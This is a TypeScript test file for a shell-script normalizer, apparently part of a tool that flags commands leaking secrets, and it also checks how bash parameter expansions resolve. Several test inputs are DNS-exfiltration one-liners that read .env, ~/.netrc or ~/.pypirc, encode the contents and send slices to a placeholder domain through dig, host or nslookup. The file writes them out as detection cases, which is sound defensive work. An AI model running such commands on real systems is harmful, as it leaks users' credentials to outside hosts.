/**
 * Parameters in words (src/normalize/parameters.ts): known values, defaults, case changes,
 * lengths, arrays and positional parameters; unknown ones keep their text and are dynamic; a
 * slice or an edit of secret material is still secret.
 */
import { describe, expect, it } from 'vitest';
import { filesContext, normalizeIn } from '../helpers/normalize.js';
import { carriesSecret } from '../../src/normalize/credentials.js';

/** True when the script's last command has a word that carries secret material. */
function lastCarries(script: string): boolean {
  const r = normalizeIn(filesContext({ '/w/.env': 'API_TOKEN=fake-value-0000\n' }), script);
  expect(r.issues).toEqual([]);
  return (r.commands.at(-1)?.argv ?? []).some((a) => carriesSecret(a));
}

describe('slices and edits of a variable that holds secret material', () => {
  it.each<[string, boolean]>([
    ['s=$(cat .env); dig "${s:0:60}.x.example.net"', true],
    ['s=$(base64 -w0 ~/.netrc); dig "${s:$i:60}.x.example.net"', true],
    ['s=$(base64 -w0 .env); host "${s//=/}.x.example.net"', true],
    ['s=$(xxd -p ~/.pypirc); nslookup "${s#??}.x.example.net"', true],
    // a variable with no secret material
    ['s=abcdef; dig "${s:1:2}.x.example.net"', false],
    ['s=$(cat names.txt); dig "${s%%.*}.example.net"', false],
  ])('%s → %s', (script, want) => expect(lastCarries(script)).toBe(want));
});

describe('parameters as words', () => {
  /** The argv of the script's last command, and which of its words are dynamic. */
  const last = (script: string) => {
    const r = normalizeIn(filesContext({}), script);
    const c = r.commands.at(-1)!;
    return { argv: c.argv, dynamic: c.dynamicArgs };
  };
  it.each<[string, string[], number[]]>([
    ['V=prod; echo "$V" ${V}', ['echo', 'prod', 'prod'], []],
    ['echo "${UNSET_X:-fallback}"', ['echo', 'fallback'], [1]],
    ['V=; echo "${V:-d}"', ['echo', 'd'], []],
    ['V=; : "${V:=set}"; echo "$V"', ['echo', 'set'], []],
    ['V=1; unset W; echo "${V:+on}" "${W+off}"', ['echo', 'on', ''], []],
    ['echo "${W+off}"', ['echo', '${W+off}'], [1]],
    ['c=Prod; echo "${c,,}" "${c^^}"', ['echo', 'prod', 'PROD'], []],
    ['V=abcd; echo "${#V}"', ['echo', '4'], []],
    ['a=(x y z); echo "${a[1]}" "${a[@]}"', ['echo', 'y', 'x', 'y', 'z'], []],
    ['set -- one two; echo "$2" "$#"', ['echo', 'two', '2'], []],
    ['echo "$UNKNOWN_THING"', ['echo', '$UNKNOWN_THING'], [1]],
  ])('%s', (script, argv, dynamic) => {
    const got = last(script);
    expect(got.argv).toEqual(argv);
    expect(got.dynamic).toEqual(dynamic);
  });
});
